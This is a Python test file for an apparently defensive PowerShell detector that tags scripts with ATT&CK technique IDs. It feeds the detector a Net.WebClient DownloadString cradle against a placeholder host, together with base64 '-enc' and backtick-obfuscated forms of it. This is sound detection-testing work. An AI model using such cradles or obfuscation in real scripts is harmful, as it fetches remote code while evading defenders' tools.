import base64

from wheeltapper.powershell.attack import techniques
from wheeltapper.powershell.views import view


def found(text):
    return {t.id for t in techniques(view(text))}


def test_words_are_found_however_they_are_written():
    plain = "(New-Object Net.WebClient).DownloadString('http://files.example/a')"
    packed = base64.b64encode(plain.encode("utf-16-le")).decode()
    for text in (plain, f"powershell -enc {packed}", plain.replace("DownloadS", "DOWN`loadS")):
        assert {"T1105", "T1071.001"} <= found(text)


def test_wrapping_itself_is_told():
    packed = base64.b64encode("Get-Date; 1".encode("utf-16-le")).decode()
    assert "T1027.010" in found(f"powershell -enc {packed}")
    assert "T1027" in found("&('Get'+'-Date')")


def test_ordinary_work_points_nowhere():
    assert found("Get-ChildItem C:\\logs | Where-Object Length -gt 1000") == set()
